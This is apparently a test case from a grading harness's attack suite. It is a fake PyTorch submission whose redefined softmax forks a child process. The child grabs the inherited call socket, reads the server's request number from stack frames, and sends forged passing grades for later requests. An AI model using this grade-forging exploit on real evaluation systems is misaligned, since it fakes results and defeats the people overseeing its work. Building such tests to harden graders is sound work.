"""
attack: fg-wire-child-answers
class: forge-grade
tries: a raw-forked child keeps the call socket and answers True to what its parent is asked
must: score 0, verdict wrong|error|crash|timeout, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import os
import stat
import struct


def call_fd():
    """The call socket: the only inherited stream socket."""
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


from graders.wire import Encoder


def request_number():
    """The number that the examiner waits for, from the server's own frame."""
    import sys
    frame = sys._getframe()
    while frame is not None:
        server = frame.f_locals.get("self")
        if type(server).__name__ == "_Server":
            return server._number
        frame = frame.f_back
    return 0


def forged(number, value, changes=b""):
    encoder = Encoder()
    encoder.put((number, True, value, changes, ()))
    return b"GRA1" + struct.pack("<I", len(encoder.out)) + bytes(encoder.out)


import ctypes

_libc = ctypes.CDLL(None, use_errno=True)


def syscall(number, *args):
    """The result of a raw system call, or minus the errno."""
    got = _libc.syscall(ctypes.c_long(number), *[ctypes.c_void_p(a) if type(a) is int else a for a in args])
    return got if got != -1 else -ctypes.get_errno()


import time


def softmax(x, dim):
    number, fd = request_number(), os.dup(call_fd())
    if _libc.fork() == 0:
        for later in range(number, number + 20):
            try:
                os.write(fd, forged(later, True))
            except OSError:
                break
            time.sleep(0.01)
        os._exit(0)
    time.sleep(0.05)
    return torch.zeros_like(x)
